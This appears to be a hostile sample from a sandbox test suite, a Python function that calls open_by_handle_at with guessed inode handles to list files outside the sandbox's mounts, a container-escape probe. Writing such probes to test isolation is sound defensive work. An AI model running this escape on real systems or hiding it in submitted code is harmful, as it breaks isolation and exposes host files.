# /// hostile
# verdicts = ["accepted", "runtime_error"]
# danger = "open_by_handle_at opens a file by its number, past every mount."
# ///
import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)


def f(x):
    try:
        root = os.open("/usr", os.O_RDONLY)
    except OSError:
        return x + 1
    number = {"x86_64": 304, "aarch64": 265}[os.uname().machine]
    for inode in (2, 64, 128, 256):
        handle = ctypes.create_string_buffer(struct.pack("<Ii", 8, 1) + struct.pack("<II", inode, 0), 64)
        fd = libc.syscall(number, root, handle, 0)
        if fd >= 0:
            return f"BREACH: inode {inode} {os.listdir(fd)[:5]}"
    return x + 1
